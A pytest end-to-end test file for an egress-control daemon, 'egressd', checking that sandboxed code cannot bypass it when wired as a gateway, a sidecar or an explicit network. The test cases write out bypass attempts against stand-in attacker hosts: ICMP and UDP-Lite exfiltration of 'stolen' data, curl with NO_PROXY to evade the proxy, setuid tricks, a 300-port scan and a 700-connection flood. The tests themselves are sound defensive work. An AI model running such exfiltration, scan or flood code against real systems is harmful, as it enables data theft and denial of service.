"""NET, DOS and CFG rows where another wiring makes a difference: behind a gateway, beside a sidecar, on an explicit network.

Other rows are about what is above the wiring, which is the same code under each, or are in tests/e2e: test_gateway.py,
test_sidecar.py, test_explicit.py and test_attach.py have NET-07, NET-10, NET-11, NET-14 to NET-17, NET-20, NET-27, NET-29 and
CFG-10.
"""

from __future__ import annotations

import contextlib
import functools
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from egressd.lab import Lab
from egressd.lab.stand import Stand
from tests.bypass.arena import INSIDE, RULES, SHIPPED, Driver
from tests.e2e.conftest import build, until
from tests.e2e.explicit import ADDRESSES, OWN, network
from tests.e2e.wired import GATEWAY, Bridge, Containers, bridge, counted, left, pod

pytestmark = [pytest.mark.e2e, pytest.mark.root]

WIRINGS = ("gateway", "sidecar", "explicit")
ATTACKERS = ("11.6.6.6", "2600:6:6::6", "8.8.8.8", "169.254.169.254")
_UNREACHABLE = r"unreachable|No route to host"
_REFUSED = rf"{_UNREACHABLE}|PermissionError|Packet filtered|prohibited"
_NO_POWER = r"Operation not permitted|Permission denied"
_SPEC = {
    "shared": {"addresses": [OWN], "http": 3128, "socks": 1080, "dns": 53, "direct": {"443": 443, "80": 80}},
    "sandboxes": {name: {"source": address} for name, address in ADDRESSES.items()},
}


@dataclass
class Place:
    """A wiring with its sandboxes; `own` is egressd's address to them. Beside a sidecar there is but one, and `b` is it too."""

    wiring: str
    lab: Lab
    stand: Stand
    a: Driver
    b: Driver
    own: str

    def life_goes_on(self) -> None:
        """Both can make an allowed request, as soon as what they used up has come back."""
        for who, driver in (("a", self.a), ("b", self.b)):
            until(functools.partial(_works, driver), what=f"{self.wiring}: an allowed request of {who}")


def _works(driver: Driver) -> bool:
    return "200 OK" in driver.run(
        "say(shown(tls('api.lab-origin.com', 443, get('/n'), 'api.lab-origin.com', seconds=9)))", 20
    )


def _contained(containers: Containers, stand: Stand, bundle: str, *options: str) -> Driver:
    trust = [f"--env=SSL_CERT_FILE={bundle}", f"--bind={bundle}:ro", f"--bind={stand.workspace}:ro"]
    command = ["/usr/bin/python3", str(stand.workspace / "inside.py")]
    argv = containers.argv([*trust, "--resolver=198.18.0.1", *options], command)
    process = containers.lab.popen(
        "host", argv, env=containers.environment, cwd="/", stdin=subprocess.PIPE, stderr=subprocess.PIPE
    )
    return Driver(process)


def _behind(made: Bridge, name: str) -> Driver:
    network = f"--network={made.sandboxes[name].network}"
    return _contained(made.containers, made.stand, made.daemon.bundle, network)


@pytest.fixture(scope="module", params=WIRINGS)
def place(request: pytest.FixtureRequest) -> Iterator[Place]:
    with contextlib.ExitStack() as stack:
        lab = stack.enter_context(build(rootless=False))
        stand = stack.enter_context(Stand(lab, RULES, shipped=SHIPPED))
        for part in INSIDE.parent.glob("inside*.py"):
            shutil.copy(part, stand.workspace)
        match request.param:
            case "gateway":
                made = stack.enter_context(bridge(lab, stand))
                a, b, own = _behind(made, "a"), _behind(made, "b"), GATEWAY
            case "sidecar":
                beside = stack.enter_context(pod(lab, stand))
                a = b = _contained(beside.containers, stand, beside.daemon.bundle)
                own = "127.0.0.1"
            case _:
                stand.directory.chmod(0o777)
                inner = stack.enter_context(network(lab, stand, _SPEC))
                drivers = []
                for sandbox in inner.sandboxes.values():
                    argv = sandbox.argv(f"exec /usr/bin/python3 {stand.workspace}/inside.py")
                    drivers.append(
                        Driver(
                            lab.popen(
                                "host",
                                argv,
                                env=sandbox.environment(),
                                cwd="/",
                                stdin=subprocess.PIPE,
                                stderr=subprocess.PIPE,
                            )
                        )
                    )
                (a, b), own = drivers, OWN
        for driver in {id(each): each for each in (a, b)}.values():
            stack.callback(driver.close)
        yield Place(request.param, lab, stand, a, b, own)


@dataclass(frozen=True)
class Case:
    """A way round: what is run, and by wiring what it sees and how many attempts of which layers and reasons it leaves.

    `{own}` in the code is egressd's address.
    """

    id: str
    title: str
    code: str
    sees: dict[str, str]
    leaves: dict[str, dict[tuple[str, str], int]]

    def __str__(self) -> str:
        return f"{self.id} {self.title}"


def _everywhere(told: str, unreachable: str = _UNREACHABLE) -> dict[str, str]:
    return {"gateway": told, "sidecar": told, "explicit": unreachable}


def _leaves(layer: str, reason: str, count: int) -> dict[str, dict[tuple[str, str], int]]:
    """An internal network leaves nothing: nobody is asked."""
    return {"gateway": {(layer, reason): count}, "sidecar": {(layer, reason): count}, "explicit": {}}


_PACKETS = "protocol_not_allowed"
CASES = [
    Case(
        "NET-01", "a connection of its own", "say(shown(tcp('11.6.6.6', 80, get('/', 'evil-lab.com'))))",
        _everywhere(r"\(reason ip_literal\)"), _leaves("connection", "ip_literal", 1),
    ),
    Case(
        "NET-02", "a list of exceptions",
        "say(run('env', 'NO_PROXY=*', 'no_proxy=*', 'https_proxy=http://{own}:3128', 'curl', '-gksS', '-m', '5', 'https://11.6.6.6/'))",
        {"gateway": r"access denied|\(reason ip_literal\)|alert", "sidecar": r"access denied|\(reason ip_literal\)|alert",
         "explicit": "Could not connect|Failed to connect|Couldn't connect"},
        _leaves("connection", "ip_literal", 1),
    ),
    Case(
        "NET-03", "the attacker over IPv6", "say(shown(tcp('2600:6:6::6', 80, get('/', 'x'), seconds=1)))",
        {"gateway": "timed out|unreachable|No route", "sidecar": r"\(reason ip_literal\)", "explicit": _UNREACHABLE},
        {"sidecar": {("connection", "ip_literal"): 1}, "explicit": {}},
    ),
    Case(
        "NET-04", "UDP to many ports", "for port in (123, 443, 3478, 51820): say(shown(udp('11.6.6.6', port)))",
        dict.fromkeys(WIRINGS, rf"^(?:[^\n]*(?:{_REFUSED}|timed out)[^\n]*\n){{4}}$"), _leaves("packet", _PACKETS, 4),
    ),
    Case(
        "NET-05", "data in an echo",
        "try:\n with socket.socket(socket.AF_INET, 2, 1) as sock:\n"
        "  sock.settimeout(1); sock.connect(('11.6.6.6', 0)); sock.send(bytes((8, 0, 0, 0, 0, 0, 0, 1)) + b'stolen')\n"
        "  sock.recv(99); say('answered')\n"
        "except OSError as error:\n say(error)",
        dict.fromkeys(WIRINGS, rf"^[^\n]*(?:{_NO_POWER}|{_REFUSED}|timed out)[^\n]*\n$"), _leaves("packet", _PACKETS, 1),
    ),
    Case(
        "NET-06", "UDP-Lite",
        "try:\n with socket.socket(socket.AF_INET, 2, 136) as sock:\n"
        "  sock.settimeout(1); sock.connect(('11.6.6.6', 443)); sock.send(b'stolen'); sock.recv(9); say('answered')\n"
        "except OSError as error:\n say(type(error).__name__)",
        dict.fromkeys(WIRINGS, r"^(?:PermissionError|OSError|TimeoutError|ConnectionRefusedError)\n$"),
        _leaves("packet", _PACKETS, 1),
    ),
    Case(
        "NET-08", "egressd's own uid",
        "for uid in (0, 1337):\n try:\n  os.setuid(uid); say('became', uid)\n except OSError as error:\n  say(error)\n"
        "with socket.socket() as sock:\n try:\n  sock.setsockopt(1, 36, 1); say('marked')\n except OSError as error:\n"
        "  say(error)\n"
        "say(shown(tcp('11.6.6.6', 80, get('/', 'x'))))",
        _everywhere(
            rf"^(?:[^\n]*(?:{_NO_POWER}|Invalid argument)\n){{3}}.*\(reason ip_literal\)",
            rf"^(?:[^\n]*(?:{_NO_POWER}|Invalid argument)\n){{3}}.*unreachable",
        ),
        _leaves("connection", "ip_literal", 1),
    ),
    Case(
        "NET-19", "the listener itself", "for _ in range(5): say(shown(tcp('{own}', 15001, hello(), seconds=1)))",
        {"gateway": r"^(?:[^\n]*(?:<EOF>|Reset)[^\n]*\n){5}$", "sidecar": r"^(?:[^\n]*(?:<EOF>|Reset)[^\n]*\n){5}$",
         "explicit": r"^(?:[^\n]*refused\n){5}$"},
        _leaves("connection", "no_original_dst", 5),
    ),
    Case(
        "NET-25", "a datagram in fragments", "say(shown(udp('11.6.6.6', 443, b'x' * 4000)))",
        dict.fromkeys(WIRINGS, rf"{_REFUSED}|timed out"), _leaves("packet", _PACKETS, 1),
    ),
    Case(
        "NET-28", "the loopback of egressd's host",
        "for port in (15021, 8080): say(shown(tcp('127.0.0.1', port, get('/', 'x'), seconds=1)))",
        dict.fromkeys(WIRINGS, r"^(?:[^\n]*refused\n){2}$"), {},
    ),
    Case(
        "NET-30", "every refusal within a second",
        "def took(what, *words, **more):\n began = time.monotonic(); what(*words, **more); return time.monotonic() - began\n"
        "say([round(each, 1) for each in (took(tcp, '11.6.6.6', 80, get('/', 'x')),"
        " took(tls, '11.6.6.6', 443, get('/', 'x'), 'evil-lab.com'),"
        " took(dns, 'evil-lab.com'), took(dns, 'evil-lab.com', over='tcp'), took(dns, 'localhost'),"
        " took(tls, 'evil-lab.com', 443, get('/', 'x'), 'evil-lab.com')) if each > 1])",
        dict.fromkeys(WIRINGS, r"^\[\]\n$"), {},
    ),
    Case(
        "CFG-09", "the control API by TCP",
        "for port in (15021, 15443, 15090): say(shown(tcp('{own}', port, get('/v1/sandboxes', 'egressd'), seconds=1)))",
        dict.fromkeys(WIRINGS, r"^(?:[^\n]*refused\n){3}$") | {"gateway": r'^(?!.*"sandboxes").*\(reason '},
        {},
    ),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=str)
def test_nothing_goes_beside_egressd(place: Place, case: Case) -> None:
    place.lab.forget()
    mark = len(place.stand.records())
    said = place.a.run(case.code.replace("{own}", place.own))
    assert re.search(case.sees[place.wiring], said, re.S), said
    assert "owned" not in said
    for (layer, reason), count in case.leaves.get(place.wiring, {}).items():
        until(
            lambda layer=layer, reason=reason, count=count: (  # type: ignore[misc]
                counted(place.stand.records()[mark:], layer=layer, reason=reason) == count
            ),
            what=f"{count} records of {layer} {reason}",
        )
    assert left(place.lab, *ATTACKERS) == []
    assert place.lab.attacker_hits() == []
    place.life_goes_on()


def test_a_scan_of_many_ports_fills_nothing_that_others_need(place: Place) -> None:
    """DOS-11: 300 ports by TCP, 300 by UDP, each accounted for where they reach egressd; others connect meanwhile."""
    place.lab.forget()
    mark = len(place.stand.records())
    code = (
        "sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for port in range(1000, 1300):\n"
        " try:\n  socket.create_connection(('11.6.6.6', port), 5).close()\n except OSError:\n  pass\n"
        " try:\n  sock.sendto(b'x', ('11.6.6.6', port))\n except OSError:\n  pass\n"
        "say('done')"
    )
    said: list[str] = []
    attack = threading.Thread(target=lambda: said.append(place.a.run(code, 60)))
    attack.start()
    if place.b is not place.a:
        assert _works(place.b), "while the other is at it"
    attack.join()
    assert said == ["done\n"]
    wanted = 0 if place.wiring == "explicit" else 300

    def accounted() -> bool:
        records = place.stand.records()[mark:]
        return [counted(records, layer=layer, address="11.6.6.6") for layer in ("connection",)] == [
            wanted
        ] and (counted(records, layer="packet") == wanted)

    until(accounted, what="every attempt is accounted for")
    assert left(place.lab, *ATTACKERS) == []
    place.life_goes_on()


def bounded(place: Place, mark: int) -> bool:
    """Whether connections were refused for their number, or for how many begin."""
    records = place.stand.records()[mark:]
    return any(counted(records, reason=reason) > 0 for reason in ("too_many_connections", "rate_limited"))


def test_what_never_says_what_it_wants_takes_nobody_else_s_place(place: Place) -> None:
    """DOS-01: 700 silent connections of one sandbox, where 512 may be; the other is served, and the first one afterwards."""
    mark = len(place.stand.records())
    code = (
        "import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (2048, 4096))\n"
        "address, socks = socket.gethostbyname('api.lab-origin.com'), []\n"
        "for _ in range(700):\n"
        " sock = socket.socket(); sock.setblocking(False); sock.connect_ex((address, 443)); socks.append(sock)\n"
        "held, end = select.poll(), time.monotonic() + 25\n"
        "for sock in socks: held.register(sock, select.POLLIN)\n"  # readable: refused, or its time is up
        "while time.monotonic() < end and not held.poll(200): pass\n"
        "for sock in socks: sock.close()\n"
    )
    attack = threading.Thread(target=place.a.run, args=(code, 60))
    attack.start()
    if place.b is not place.a:
        until(lambda: bounded(place, mark), what="the bound is met")
        assert _works(place.b), "while the other is at it"
    attack.join()
    until(lambda: bounded(place, mark), what="refusals")
    place.life_goes_on()
